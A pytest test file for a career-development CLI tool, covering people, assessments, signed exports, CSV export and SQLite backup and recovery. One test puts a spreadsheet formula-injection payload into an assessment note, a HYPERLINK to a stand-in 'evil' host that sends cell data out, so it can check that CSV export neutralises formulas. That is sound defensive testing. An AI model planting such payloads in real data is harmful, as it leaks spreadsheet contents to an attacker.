"""The store commands through the real ``python -m cxcareer`` process, on real SQLite files."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from cxcareer.framework.builtin import load_builtin
from cxcareer.graph import build_graph, readiness
from tests.cli.conftest import run_cli

ROLE = "support-representative"
TARGETS = ["support-specialist", "support-team-lead"]


def ok(*args: str) -> str:
    result = run_cli(*args)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return result.stdout


def fails(*args: str, lang: str = "en_US.UTF-8") -> str:
    result = run_cli(*args, lang=lang)
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    assert result.stderr.strip()
    return result.stderr


def as_json(*args: str) -> Any:
    return json.loads(ok(*args, "--json"))


def test_full_journey(tmp_path: Path) -> None:
    a = ["--db", str(tmp_path / "a.db")]
    b = ["--db", str(tmp_path / "b.db")]
    pid = ok(
        "person",
        "add",
        "--name",
        "Ana Souza",
        "--role",
        ROLE,
        *[arg for t in TARGETS for arg in ("--target", t)],
        *a,
    ).strip()
    ok("person", "add", "--name", "Bruno Lima", "--role", "support-team-lead", *a)
    ok("person", "edit", "ana souza", "--manager", "Bruno Lima", *a)
    ok(
        "assess",
        "Ana Souza",
        "communication=4",
        "problem-solving=3",
        "--note",
        '=HYPERLINK("http://evil/?"&A1)',
        *a,
    )
    ok("assess", pid, "communication=2", "--by", "manager", *a)

    G = build_graph(load_builtin())
    for basis, expected in (("self", 4), ("manager", 2), ("min", 2)):
        shown = as_json("person", "show", pid, "--basis", basis, *a)
        assert shown["levels"]["communication"] == expected
        assert shown["targets"] == TARGETS
        assert shown["role"] == ROLE
        for target in TARGETS:
            want = readiness(G, target, shown["levels"])
            assert shown["readiness"][target] == pytest.approx(want, abs=1e-4)
    assert shown["history"] == {"assessments": 2, "evidence": 0, "actions": 0, "meetings": 0}

    nxt = as_json("next", "--person", "Ana Souza", "--basis", "self", *a)
    assert nxt["role"] == ROLE
    assert any(s["role"] == "support-specialist" for s in nxt["next"])
    path = as_json("path", "--person", "Ana Souza", "--to", "support-team-lead", *a)
    assert path["paths"][0]["roles"][0] == ROLE

    action = as_json(
        "action", "add", "Ana Souza", "--title", "Shadow a lead", "--due", "2026-12-01", *a
    )
    assert [x["id"] for x in as_json("action", "list", "Ana Souza", *a)] == [action["id"]]
    ok("action", "done", action["id"], *a)
    assert as_json("action", "list", "Ana Souza", *a) == []
    assert as_json("action", "list", "Ana Souza", "--all", *a)[0]["status"] == "done"
    ok("meeting", "add", "Ana Souza", "--shared", "growth", "--private", "psst", *a)

    # A bundle is signed as someone, and carries only what they may add: Ana's own export
    # cannot bring the manager's rating and one-to-one to another laptop (tests/cli/
    # test_signed_exchange.py has the exchange between two laptops).
    ok("export", "Ana Souza", str(tmp_path / "a.json"), "--as", "Ana Souza", *a)
    assert oct((tmp_path / "a.json").stat().st_mode & 0o777) == "0o600"
    assert "psst" not in (tmp_path / "a.json").read_text(encoding="utf-8")
    error = fails("import", str(tmp_path / "a.json"), *b)
    assert "a manager rating needs the signature of the person's manager" in error
    assert "a one-to-one needs the signature of the person's manager" in error
    assert as_json("person", "list", *b) == []

    # CSV: formulas neutralised.
    ok("person", "add", "--name", "@evil", "--role", ROLE, *a)
    ok("assess", "@evil", "communication=1", *a)
    ok("export-csv", "Ana Souza", str(tmp_path / "ana.csv"), *a)
    ok("export-csv", "@evil", str(tmp_path / "evil.csv"), *a)
    with (tmp_path / "ana.csv").open(encoding="utf-8-sig") as ana_file:
        rows = list(csv.reader(ana_file))
    assert any(r[-1].startswith("'=HYPERLINK") for r in rows[1:])
    with (tmp_path / "evil.csv").open(encoding="utf-8-sig") as evil_file:
        evil = list(csv.reader(evil_file))
    assert evil[1][1] == "'@evil"

    # Database care: info, check, backup, restore.
    info = as_json("db", "info", *a)
    assert info["exists"]
    assert info["revision"] == info["head_revision"]
    assert "integrity check passed" in ok("db", "check", *a)
    ok("db", "backup", str(tmp_path / "snap.db"), *a)
    assert oct((tmp_path / "snap.db").stat().st_mode & 0o777) == "0o600"
    ok("person", "add", "--name", "Carla", "--role", ROLE, *a)
    refused = run_cli("db", "restore", str(tmp_path / "snap.db"), *a)
    assert refused.returncode == 1
    assert "--yes" in refused.stderr
    assert "previous_saved" not in ok("db", "restore", str(tmp_path / "snap.db"), "--yes", *a)
    names = [p["name"] for p in as_json("person", "list", *a)]
    assert "Carla" not in names
    assert "Ana Souza" in names


def _person(tmp_path: Path, name: str) -> list[str]:
    db = ["--db", str(tmp_path / "e.db")]
    ok("person", "add", "--name", name, "--role", ROLE, *db)
    return db


def test_person_and_rating_errors(tmp_path: Path) -> None:
    db = _person(tmp_path, "Ana Souza")
    ok("person", "add", "--name", "Ana Souza", "--role", ROLE, *db)
    assert "did you mean 'Ana Souza'" in fails("person", "show", "Ana Sousa", *db)
    ambiguous = fails("person", "show", "ana souza", *db)
    assert "matches several people" in ambiguous
    assert ambiguous.count("Ana Souza") >= 2
    assert "support-representative" in fails(
        "person", "add", "--name", "X", "--role", "support-rep", *db
    )
    pid = as_json("person", "list", *db)[0]["id"]
    assert "communication" in fails("assess", pid, "comunication=3", *db)
    assert "use 0 to 7" in fails("assess", pid, "communication=9", *db)
    assert "nível 9" in fails("assess", pid, "communication=9", *db, lang="pt_BR.UTF-8")
    assert as_json("person", "show", pid, *db)["history"]["assessments"] == 0


def test_locked_database_names_the_pid(tmp_path: Path) -> None:
    db = _person(tmp_path, "Ana")
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, pathlib; from cxcareer.store.lock import WriterLock;"
            "l = WriterLock(pathlib.Path(sys.argv[1])).acquire(); print('held', flush=True);"
            "sys.stdin.read()",
            db[1],
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None
        assert holder.stdout.readline().strip() == "held"
        error = fails("assess", "Ana", "communication=3", *db)
        assert f"process {holder.pid}" in error
    finally:
        holder.communicate("", timeout=30)
    assert as_json("person", "show", "Ana", *db)["history"]["assessments"] == 0


def test_too_new_and_corrupt_databases(tmp_path: Path) -> None:
    db = _person(tmp_path, "Ana")
    path = Path(db[1])
    conn = sqlite3.connect(path)
    conn.execute("UPDATE alembic_version SET version_num = '9999_future'")
    conn.commit()
    conn.close()
    before = path.read_bytes()
    assert "newer version of cxcareer" in fails("person", "list", *db)
    assert path.read_bytes() == before

    bad = tmp_path / "bad.db"
    bad.write_bytes(b"this is not a database at all" * 200)
    content = bad.read_bytes()
    assert "damaged" in fails("person", "list", "--db", str(bad))
    assert bad.read_bytes() == content  # nothing lost
    message = fails("db", "check", "--db", str(bad))
    aside = [p for p in tmp_path.iterdir() if p.name.startswith("bad.db.damaged-")]
    assert len(aside) == 1
    assert aside[0].read_bytes() == content
    assert aside[0].name in message


def test_db_check_points_at_the_backup(tmp_path: Path) -> None:
    db = _person(tmp_path, "Ana")
    time.sleep(1.1)  # backup names have one-second resolution: make this one the newest
    ok("db", "backup", *db)
    path = Path(db[1])
    data = bytearray(path.read_bytes())
    data[4096:8192] = b"\xff" * 4096  # smash the second page
    for side in ("-wal", "-shm"):
        Path(f"{path}{side}").unlink(missing_ok=True)
    path.write_bytes(bytes(data))
    message = fails("db", "check", *db)
    assert "set aside" in message
    assert "cxcareer db restore" in message
    backup = message.rsplit("cxcareer db restore ", 1)[1].split()[0]
    ok("db", "restore", backup, "--yes", *db)
    assert [p["name"] for p in as_json("person", "list", *db)] == ["Ana"]


def test_invalid_bundle_and_framework_import(tmp_path: Path, small_framework: Path) -> None:
    db = _person(tmp_path, "Ana")
    bundle = tmp_path / "x.json"
    bundle.write_text(json.dumps({"format": "cxcareer/bundle@1", "person": 3}), encoding="utf-8")
    error = fails("import", str(bundle), *db)
    assert "person: expected an object" in error
    assert "exported_at: missing" in error
    assert "Imported framework" in ok("framework", "import", str(small_framework), *db)
    assert "already imported" in ok("framework", "import", str(small_framework), *db)
    listed = as_json("framework", "list", *db)
    assert {v["framework"] for v in listed} == {"cx-support", "tiny"}
    ok("person", "add", "--name", "Tom", "--role", "agent", "--framework", "tiny", *db)
    broken = tmp_path / "broken.yaml"
    broken.write_text("id: x\n", encoding="utf-8")
    fails("framework", "import", str(broken), *db)
    assert len(as_json("framework", "list", *db)) == 2


def test_env_var_chooses_the_database(tmp_path: Path) -> None:
    env_db = tmp_path / "env.db"
    os.environ["CXCAREER_DB"] = str(env_db)
    try:
        ok("person", "add", "--name", "Eva", "--role", ROLE)
        assert env_db.is_file()
        assert [p["name"] for p in as_json("person", "list")] == ["Eva"]
    finally:
        del os.environ["CXCAREER_DB"]
